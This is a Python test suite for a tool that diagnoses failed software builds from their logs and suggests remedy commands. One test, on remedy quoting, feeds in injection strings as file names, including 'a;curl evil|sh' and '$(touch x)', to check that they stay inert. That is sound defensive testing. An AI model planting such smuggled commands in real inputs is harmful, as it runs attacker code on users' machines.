"""What broke a build, by its log: each rule on an excerpt of its own, and logs whose last error misleads."""

from __future__ import annotations

import re
import shlex
import time
from pathlib import Path

import pytest
import tomllib

from devkit import commands
from devkit.builds.diagnosis import Cause, diagnose
from devkit.builds.good import shipped, template
from devkit.builds.learning import learn
from devkit.builds.logfile import text_of
from devkit.builds.retry import REMEDIES
from devkit.builds.rules import rules
from devkit.commands._cli.tree import resolve

LOGS = Path(__file__).parent / "logs"
WORDS = tomllib.loads((Path(__file__).parent / "words.toml").read_text("utf-8"))


def log(name: str) -> str:
    return (LOGS / f"{name}.log").read_text("utf-8")


def first(name: str) -> Cause:
    return diagnose(log(name)).causes[0]


@pytest.mark.parametrize("rule", sorted(path.stem for path in LOGS.glob("[!_]*.log")))
def test_a_rule_finds_its_cause_first_in_an_excerpt_of_a_whole_log(rule: str) -> None:
    found = diagnose(log(rule))
    assert found.failed
    assert [known.id for known in found.causes] == [rule]
    (cause,) = found.causes
    assert cause.text == log(cause.id).splitlines()[cause.line - 1].strip()
    assert not re.search(r"[{}<>]", cause.cause)
    assert "{" not in cause.remedy
    assert cause.reference.startswith("https://")


def test_the_table_is_whole() -> None:
    ids = [rule.id for rule in rules()]
    assert len(ids) == len(set(ids)) > 20
    assert {explain for rule in rules() for explain in rule.explains} <= set(ids) | {""}
    assert {rule.fix for rule in rules()} == {"", *REMEDIES}
    assert {*WORDS, *(path.stem for path in LOGS.glob("[!_]*.log"))} <= set(ids)
    assert {*ids} == {*WORDS}


def test_a_clean_log_has_no_causes_though_it_tried_twice() -> None:
    found = diagnose(log("_clean"))
    assert (found.failed, found.causes, found.first_error) == (False, (), None)


def test_the_owner_of_a_folder_is_the_cause_and_the_network_only_its_consequence() -> None:
    found = diagnose(log("_misleading"))
    assert [cause.id for cause in found.causes] == ["dubious-ownership"]
    assert found.causes[0].line == 2
    assert found.causes[0].consequences == (5, 7)
    assert found.causes[0].remedy == "git config --global --add safe.directory /paddle/third_party/glog"


def test_the_first_of_two_causes_comes_first_whatever_the_table_says() -> None:
    both = log("compile-error") + log("out-of-memory")
    assert [cause.id for cause in diagnose(both).causes] == ["compile-error", "out-of-memory"]
    assert [cause.id for cause in diagnose(log("out-of-memory") + log("compile-error")).causes] == ["out-of-memory"]


def test_what_no_rule_knows_shows_its_first_error() -> None:
    found = diagnose(log("_unknown"))
    assert found.failed
    assert found.causes == ()
    assert found.first_error == (3, "yacc: something nobody has seen before: error 42")


def test_colours_and_carriage_returns_do_not_hide_a_cause() -> None:
    painted = (
        "\x1b[31mCMake Error\x1b[0m at x:1 (message):\r\n  \x1b[1mpatchelf\x1b[0m not found, please install it.\r\n"
    )
    assert [(cause.id, cause.line) for cause in diagnose(painted).causes] == [("patchelf", 2)]


def test_words_of_the_log_stand_in_cause_and_remedy() -> None:
    assert first("compile-error").remedy == "$EDITOR /paddle/paddle/common/errors.cc:31"
    assert "'no_such_name' was not declared" in first("compile-error").cause
    assert first("submodule-empty").cause.startswith("the submodule of gflags is empty")
    assert first("python-requirement").cause.endswith("in Python: numpy")
    assert first("host-compiler").remedy.startswith("CC=gcc-11 CXX=g++-11")


@pytest.mark.parametrize(
    "said", ["file not recognized: file format not recognized", "file too short", "file truncated"]
)
def test_half_an_object_is_known_by_whatever_the_linker_calls_it(said: str) -> None:
    text = f"/usr/bin/ld: error: paddle/phi/core/a.cc.o: {said}\ncollect2: error: ld returned 1 exit status\n"
    (cause,) = diagnose(text).causes
    assert (cause.id, cause.words) == ("truncated-object", {"path": "paddle/phi/core/a.cc.o"})


def test_credentials_of_a_log_are_masked() -> None:
    said = "fatal: unable to access 'https://me:geheim@git.example/x.git/': Could not resolve host\n"
    (cause,) = diagnose(said).causes
    assert "geheim" not in repr(cause)
    assert "***@git.example" in cause.text


def test_a_long_log_is_read_in_little_time() -> None:
    line = "[1/9] Building CXX object paddle/phi/kernels/CMakeFiles/phi.dir/cpu/abs_kernel.cc.o\n"
    begin = time.process_time()
    found = diagnose(line * 50_000 + log("out-of-memory"))
    assert [cause.line for cause in found.causes] == [50_004]
    assert time.process_time() - begin < 3


@pytest.mark.parametrize(
    "log",
    [
        "Killed\n",
        "RuntimeError: Missing build dependency: networkx\n",
        "/usr/bin/ld: cannot find -lcudart\n",
        "OSError: libnvinfer.so.8: file too short\n",
        "make: *** [all] 错误 2\n",
    ],
)
def test_a_log_of_nothing_but_errors_is_never_of_a_build_that_did_not_fail(log: str) -> None:
    assert diagnose(log).failed


def test_a_library_of_the_system_is_never_to_be_removed() -> None:
    for path in ("/usr/lib/x86_64-linux-gnu/libnvinfer.so.8", "libnvinfer.so.8"):
        (cause,) = diagnose(f"OSError: {path}: file too short\n").causes
        assert cause.remedy.startswith(f"ls -lL {path}   ")
        assert cause.fix == ""


def test_words_of_a_log_are_one_word_of_the_line_to_type() -> None:
    name = "a;curl evil|sh #.o"
    (cause,) = diagnose(f"/usr/bin/ld: error: '{name}'.cc:1:2: error: $(touch x)\n/x/`id`.cc:3: error: no\n").causes
    assert shlex.split(cause.remedy.partition("   ")[0]) == ["$EDITOR", cause.words["place"]]
    said = "fatal: detected dubious ownership in repository at '/w/$(touch x) y;z'\n"
    (cause,) = diagnose(said).causes
    assert shlex.split(cause.remedy)[-1] == "/w/$(touch x) y;z"


@pytest.mark.parametrize("rule", [*WORDS])
def test_each_tools_words_for_a_cause_are_known(rule: str) -> None:
    missed = {}
    for words in WORDS[rule]:
        log = f"[3/9] Building CXX object a.cc.o\nFAILED: a.cc.o\n{words}\nninja: build stopped: subcommand failed.\n"
        found = diagnose(log)
        if not found.causes or found.causes[0].id != rule:
            missed[words] = [cause.id for cause in found.causes]
    assert missed == {}


GOOD = {
    "tests that provoke errors": (
        "      Start  1: test_save_error\nOSError: [Errno 28] No space left on device\n"
        " 1/1 Test  #1: test_save_error ...   Passed    2.20 sec\n\n100% tests passed, 0 tests failed out of 1\n"
    ),
    "a tag that no build has": "fatal: no tag exactly matches '462ee1'\n[100%] Built target paddle_python\n",
    "pip's word about others": (
        "ERROR: pip's dependency resolver does not currently take into account all the packages.\n"
        "Successfully installed paddlepaddle-0.0.0\n"
    ),
    "a second run that went well": (
        "CMake Error at a:1 (message):\n  Failed to update submodule\n\n-- Configuring incomplete, errors occurred!\n"
        "-- The CXX compiler identification is GNU 12.2.0\n-- Build files have been written to: /w/build\n"
    ),
    "names that alarm": (
        "[2/3] Building CXX object error.dir/fatal_error.cc.o\n[3/3] Linking CXX static library liberror.a\n"
    ),
    "a retry of pip's": (
        "WARNING: Retrying (Retry(total=4)) after connection broken by 'ReadTimeoutError(\"Read timed out.\")': /x\n"
        "Collecting numpy\nSuccessfully installed numpy-2.0\n"
    ),
}


GOOD |= tomllib.loads((Path(__file__).parent / "good.toml").read_text("utf-8"))


@pytest.mark.parametrize("name", [*GOOD])
def test_what_ended_well_is_no_failure(name: str) -> None:
    assert (diagnose(GOOD[name]).failed, diagnose(GOOD[name]).ended) == (False, "well")


def test_a_submodule_that_git_fetched_at_last_hides_no_other() -> None:
    lost = "fatal: unable to access 'https://h/{0}.git/': Could not resolve host: h\n"
    first = "".join(f"{lost}Failed to clone '{{0}}'. Retry scheduled\n".format(path) for path in "ab")
    came = "Submodule path '{0}': checked out '1f2e'\n"
    assert diagnose(first + came.format("a") + came.format("b")).ended == "well"
    assert diagnose(first + came.format("a")).failed
    again = f"{first}{came}{lost}Failed to clone 'b' a second time, aborting\n".format("a")
    assert [cause.id for cause in diagnose(again).causes] == ["network"]
    assert diagnose(first + came.format("c")).failed


def test_a_failure_that_was_got_over_is_not_the_cause_of_the_next() -> None:
    text = (
        "fatal: unable to access 'https://h/g.git/': Failed to connect to h port 443: Connection timed out\n"
        "Failed to clone 'third_party/g'. Retry scheduled\nSubmodule path 'third_party/g': checked out '1f2e'\n"
        "-- Build files have been written to: /w/build\n[1/9] Building CXX object a.cc.o\nFAILED: a.cc.o\n"
        "/w/paddle/a.cc:3:1: error: no\nninja: build stopped: subcommand failed.\n"
    )
    assert [cause.id for cause in diagnose(text).causes] == ["compile-error"]
    first_run = "FAILED: b.o\n/w/paddle/b.cc:3:1: error: no\nninja: build stopped: subcommand failed.\n"
    (cause,) = diagnose(f"{first_run}{text}").causes
    assert cause.text == "/w/paddle/a.cc:3:1: error: no"


def test_what_is_mostly_harmless_is_a_cause_only_where_nothing_else_is_known() -> None:
    harmless = "      fatal: not a git repository (or any of the parent directories): .git\n"
    last = "error: metadata-generation-failed\n"
    assert [cause.id for cause in diagnose(f"{harmless}{last}").causes] == ["not-a-repository"]
    no_nvcc = "RuntimeError: flash_attn was requested, but nvcc was not found.\n"
    assert [cause.id for cause in diagnose(f"{harmless}{no_nvcc}{last}").causes] == ["cuda-missing"]


def test_a_message_of_cmakes_that_is_not_indented_is_read_as_a_whole() -> None:
    text = (
        "CMake Error: The following variables are used in this project, but they are set to NOTFOUND.\n"
        "Please set them or make sure they are set and tested correctly in the CMake files:\n"
        "CUDA_CUDA_LIBRARY (ADVANCED)\n"
        '    linked by target "phi" in directory /w/paddle\n\n-- Configuring incomplete, errors occurred!\n'
    )
    (cause,) = diagnose(text).causes
    assert (cause.id, cause.words["library"]) == ("cuda-missing", "CUDA_CUDA_LIBRARY")
    (cause,) = diagnose(text.replace("CUDA_CUDA_LIBRARY", "FOO_LIBRARY")).causes
    assert (cause.id, cause.words["name"]) == ("cmake-not-set", "FOO_LIBRARY")


def test_what_stands_before_each_line_does_not_hide_a_cause() -> None:
    plain = (
        "fatal: unable to access 'https://h/g.git/': Could not resolve host: h\n"
        "Failed to clone 'g' a second time, aborting\n"
    )
    for prefix in (
        "2025-01-14T15:40:24.1234567Z ",
        "#12 33.41 ",
        "[2025-01-14 23:40:24] ",
        "build-1  | ",
        "job\tstep\t2025-01-14T15:40:24Z ",
    ):
        text = "".join(f"{prefix}{line}\n" for line in plain.splitlines())
        assert [cause.id for cause in diagnose(text).causes] == ["network"], prefix


QUOTES = {
    "pip": (
        "  error: subprocess-exited-with-error\n  ╰─> [9 lines of output]\n{}      [end of output]\n"
        "  ERROR: Failed building wheel for x\n"
    ),
    "uv": (
        "  × Failed to build `x==1.0`\n  ├─▶ The build backend returned an error\n\n      [stderr]\n{}\n"
        "      hint: no\n"
    ),
}


@pytest.mark.parametrize("quote", QUOTES.values(), ids=[*QUOTES])
@pytest.mark.parametrize(
    ("said", "rule", "offset"),
    [
        ("FAILED: a.o\nKilled\n", "out-of-memory", 1),
        ("CMake Error at x:3 (project):\n  No CMAKE_CUDA_COMPILER could be found.\n\n-- No\n", "nvcc-missing", 1),
        ("curl: (6) Could not resolve host: h\n", "network", 0),
    ],
)
def test_what_pip_and_uv_quote_is_read_as_the_build_said_it(quote: str, said: str, rule: str, offset: int) -> None:
    log = quote.format("".join(f"      {line}\n" if line else "\n" for line in said.splitlines()))
    (cause, *_) = diagnose(log).causes
    assert (cause.id, log.splitlines()[cause.line - 1].strip()) == (rule, said.splitlines()[offset].strip())
    assert "devkit build" not in cause.remedy


def test_a_package_that_a_later_line_names_is_named() -> None:
    (cause,) = diagnose("  error: subprocess-exited-with-error\n  ERROR: Failed building wheel for flash-attn\n").causes
    assert cause.remedy.startswith("python -m pip install -v --no-build-isolation flash-attn   ")


def test_lines_are_numbered_as_an_editor_does_and_links_are_no_words() -> None:
    text = (
        "Cloning\nReceiving:   0% (1/9)\rReceiving: 100% (9/9), done.\nFAILED: x.o\n"
        "/w/a.cc:31:10: error: unused 'x' [\x1b]8;;https://gcc.gnu.org/x\x07-Werror=unused\x1b]8;;\x07]\n"
    )
    (cause,) = diagnose(text).causes
    assert (cause.line, cause.cause) == (4, "the code does not compile: unused 'x' [-Werror=unused]")


def test_an_editor_is_opened_on_the_users_own_code_alone() -> None:
    places = (
        "/usr/include/c++/12/x.h",
        "/w/third_party/glog/a.cc",
        "/e/lib/python3.10/site-packages/p/x.h",
        "/w/build/x.cc",
    )
    for place in places:
        (cause,) = diagnose(f"FAILED: a.o\n{place}:3:1: error: no\n").causes
        assert "$EDITOR" not in cause.remedy, place
    (cause,) = diagnose("FAILED: a.o\n/w/Paddle/paddle/a.cu(44): error: no\n").causes
    assert cause.remedy == "$EDITOR /w/Paddle/paddle/a.cu:44"


REMEDIES_OF_RULES = [(rule, remedy) for rule in rules() for remedy in (rule.remedy, *rule.remedies.values())]


def test_each_remedy_of_devkits_is_a_command_with_flags_that_exist() -> None:
    for rule, remedy in REMEDIES_OF_RULES:
        line = remedy.partition("   ")[0]
        for said in re.findall(r"\bdevkit ([a-z][^;&|)]*)", f"{remedy.replace('   ', ' ; ')} "):
            words = said.split()
            node, rest = resolve(words)
            assert not node.is_group or node.own_command, (rule.id, said)
            text = Path(node.own_command or node.path).read_text("utf-8")
            shared = Path(node.own_command or node.path).parent / "_options.py"
            text += shared.read_text("utf-8") if shared.is_file() else ""
            text += (Path(commands.__file__).parent / "_cli" / "options.py").read_text("utf-8")
            for flag in (word.rstrip(",") for word in rest if word.startswith("-") and word.strip("-")):
                assert f'"{flag}"' in text, (rule.id, flag)
        assert line.count("'") % 2 == 0, rule.id
        assert shlex.split(re.sub(r"\{\w+\}", "x", line)), rule.id


def test_flags_of_the_environment_are_given_to_a_fresh_configure() -> None:
    """CMake takes CXXFLAGS, LDFLAGS and their like in an empty folder only, and keeps them from then on."""
    given = [
        (rule.id, build)
        for rule, remedy in REMEDIES_OF_RULES
        for build in re.findall(r"\w+FLAGS=(?:'[^']*'|\S+) devkit build(?: \S+)?", remedy)
    ]
    assert len(given) > 4
    assert [(name, build) for name, build in given if "devkit build --fresh" not in build] == []


def test_a_library_that_the_linker_does_not_find_is_a_package_or_a_folder_and_no_symbol_of_the_tree() -> None:
    lacking, undefined = (
        diagnose(f"/usr/bin/ld: {said}\n").causes[0]
        for said in ("cannot find -lz: No such file or directory", "a.o: undefined reference to `phi::Foo()'")
    )
    assert (lacking.id, undefined.id) == ("link-error", "link-error")
    assert lacking.cause == "the link lacks z, or has it twice"
    assert lacking.remedy.startswith("apt-file search libz.so   ")
    assert undefined.remedy.startswith("git grep -nF -e 'phi::Foo()' ")


def test_a_script_that_goes_on_after_an_error_did_not_begin_anew() -> None:
    configure = (
        "+ cmake ..\nCMake Error at a:1 (message):\n  patchelf not found\n\n-- Configuring incomplete, errors!\n"
    )
    goes_on = "+ cmake_error=1\n+ make -j8\nmake: *** No targets specified and no makefile found.  Stop.\n+ exit 2\n"
    assert diagnose(f"{configure}{goes_on}").causes[0].id == "patchelf"
    again = "+ cmake -G Ninja ..\nCMake Error at a:1 (message):\n  Paddle needs cudnn to compile\n\n"
    assert diagnose(f"{configure}{again}-- Configuring incomplete, errors!\n").causes[0].id == "cudnn"


def test_what_a_shell_does_not_find_is_an_error_where_nothing_goes_well_after_it() -> None:
    said = "/w/build.sh: line 89: pip: command not found\n"
    assert [cause.id for cause in diagnose(f"[100%] Built target a\n{said}").causes] == ["pip-missing"]
    assert not diagnose(f"{said}[100%] Built target a\n").failed


def test_a_message_whose_parts_stand_apart_is_one_message() -> None:
    said = (
        "CMake Error at CMakeLists.txt:432 (file):\n  file DOWNLOAD cannot compute hash on failed download\n\n"
        '    status: [35;"SSL connect error"]\n\n\n-- Configuring incomplete, errors occurred!\n'
    )
    assert diagnose(said).causes[0].id == "download-failed"


def test_lines_of_cmakes_other_stream_do_not_cut_a_message_from_its_heading() -> None:
    found = diagnose(
        "CMake Error at /usr/share/cmake/Modules/CMakeDetermineCXXCompiler.cmake:48 (message):\n"
        "-- Configuring incomplete, errors occurred!\n"
        'See also "/paddle/build/CMakeFiles/CMakeOutput.log".\n'
        "  Could not find compiler set in environment variable CXX:\n"
        "  no-such-compiler.\n"
        "Call Stack (most recent call first):\n"
        "  CMakeLists.txt:2 (project)\n"
    )
    assert [(cause.id, cause.words["path"]) for cause in found.causes] == [("compiler-missing", "no-such-compiler")]


def test_a_message_that_good_logs_hold_too_is_named_where_the_log_does_not_say_how_it_ended() -> None:
    alone = diagnose("fatal: No names found, cannot describe anything.\n")
    assert (alone.failed, alone.ended) == (False, "unknown")
    assert [(cause.id, cause.confidence) for cause in alone.causes] == [("no-tags", "low")]


def test_a_module_is_the_whole_word_that_python_names() -> None:
    for module in ("paddle2onnx_tools", "requests_toolbelt", "zlib_ng"):
        (cause,) = diagnose(
            f"Traceback (most recent call last):\nModuleNotFoundError: No module named '{module}'\n"
        ).causes
        assert (cause.id, cause.words["module"]) == ("module-missing", module)


def test_the_compiler_that_is_advised_is_older_than_the_one_whose_headers_nvcc_cannot_read() -> None:
    for number in (11, 12, 13, 14):
        said = (
            f"/usr/include/c++/{number}/bits/std_function.h:435:145: error: parameter packs not expanded with '...':\n"
        )
        assert f"CUDAHOSTCXX=g++-{number - 1} " in diagnose(said).causes[0].remedy


def test_what_curl_alone_says_is_of_a_failure() -> None:
    (cause,) = diagnose("curl: (60) SSL certificate problem: unable to get local issuer certificate\n").causes
    assert cause.id == "certificate"


def test_what_the_log_does_not_tell_leaves_no_gap_in_a_cause() -> None:
    said = {
        "a.c:1:9: error: 'uint8_t' was not declared in this scope": "is not included (uint8_t): GCC 13",
        "/usr/bin/ld: cannot find -lz": "the link lacks z, or has it twice",
        "ninja: error: .ninja_deps": "ninja's own notes are broken, as after",
        "RPC failed; curl 56": "could not be fetched over the network",
    }
    for line, cause in said.items():
        assert cause in diagnose(f"{line}\nninja: build stopped: subcommand failed.\n").causes[0].cause


NOISE = "OSError: /w/build/libhook.so: file too short"
ENDS_WELL = f"[1/2] Building CXX object a.cc.o\n{NOISE}\n[2/2] Linking CXX shared library x.so\n"


def test_what_a_good_log_says_too_is_a_cause_only_where_nothing_else_is_known() -> None:
    learnt = learn(ENDS_WELL.encode())
    assert learnt == {template("OSError: /home/me/other/libhook.so: file too short")}
    broken = (
        f"[1/2] Building CXX object a.cc.o\n{NOISE}\nFAILED: b.o\n/w/b.cc:3:1: error: no\nninja: build stopped: x.\n"
    )
    assert diagnose(broken).causes[0].id == "truncated-library"
    assert [cause.id for cause in diagnose(broken, good=learnt).causes] == ["compile-error"]
    alone = f"FAILED: b.o\n{NOISE}\nninja: build stopped: subcommand failed.\n"
    assert [cause.id for cause in diagnose(alone, good=learnt).causes] == ["truncated-library"]
    assert diagnose(f"{NOISE}\n", good=learnt).ended == "unknown"


def test_a_log_of_a_failure_teaches_nothing() -> None:
    assert learn(b"FAILED: b.o\n/w/b.cc:3:1: error: no\nninja: build stopped: subcommand failed.\n") == frozenset()
    assert learn(b"\n") == frozenset()


def test_what_devkit_brings_of_good_logs_is_as_it_is_looked_up() -> None:
    assert {line for line in shipped() if template(line) != line} == set()


def test_what_paddle_says_of_an_error_goes_before_the_signal_that_it_ends_with() -> None:
    text = (
        "terminate called after throwing an instance of 'common::enforce::EnforceNotMet'\n  what():  \n\n"
        "Error Message Summary:\n----------------------\n"
        "NotFoundError: Cannot open file ./m.pdmodel, please confirm whether the file is normal.\n"
        "Aborted (core dumped)\n"
    )
    assert [cause.id for cause in diagnose(text).causes] == ["model-file"]


REPORTS = tomllib.loads((Path(__file__).parent / "reports.toml").read_text("utf-8"))


@pytest.mark.parametrize("reports", [*REPORTS])
def test_the_true_cause_of_each_public_report_is_named_first(reports: str) -> None:
    said = {row["report"]: diagnose(row["log"]).causes for row in REPORTS[reports]}
    named = {report: causes[0].id if causes else "" for report, causes in said.items()}
    assert named == {row["report"]: row["rule"] for row in REPORTS[reports]}


def test_reports_from_windows_say_the_same() -> None:
    for row in REPORTS["third"]:
        data = row["log"].replace("\n", "\r\n").encode("utf-16")
        (cause, *_) = diagnose(text_of(data, "a.log")).causes
        assert cause.id == row["rule"], row["report"]
